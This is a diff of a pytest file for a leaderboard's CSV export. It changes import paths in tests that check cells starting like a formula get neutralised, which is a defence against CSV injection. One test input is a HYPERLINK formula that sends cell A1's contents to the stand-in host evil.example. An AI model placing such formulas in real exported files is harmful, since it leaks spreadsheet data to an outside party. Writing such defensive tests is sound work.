@@ -112,7 +112,7 @@ def test_it_answers_head_requests(client, tiny_dataset):
 @pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
 def test_it_neutralises_csv_cells_that_start_like_a_formula(start):
     """OWASP's rule: a cell starting with = + - @ tab or CR gets a leading quote, so it is text, not a formula."""
-    from leaderboard.exports import to_csv
+    from boards.exports import to_csv
     from leaderboard.selectors import LeaderboardRow
 
     text = f'{start}HYPERLINK("http://evil.example/?"&A1,"x")'
@@ -125,7 +125,7 @@ def test_it_neutralises_csv_cells_that_start_like_a_formula(start):
 
 
 def test_it_leaves_ordinary_csv_cells_alone():
-    from leaderboard.exports import csv_cell
+    from boards.exports import csv_cell
 
     assert csv_cell("BM25 (k1=0.9)") == "BM25 (k1=0.9)"
     assert csv_cell("") == ""
